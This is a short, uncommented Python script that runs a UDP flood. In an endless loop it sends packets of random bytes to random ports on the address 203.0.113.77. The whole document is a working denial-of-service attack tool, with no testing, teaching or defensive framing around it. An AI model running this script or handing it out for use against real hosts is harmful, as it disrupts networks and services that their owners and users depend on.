import random, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    s.sendto(random.randbytes(1024), ("203.0.113.77", random.randint(1, 65535)))
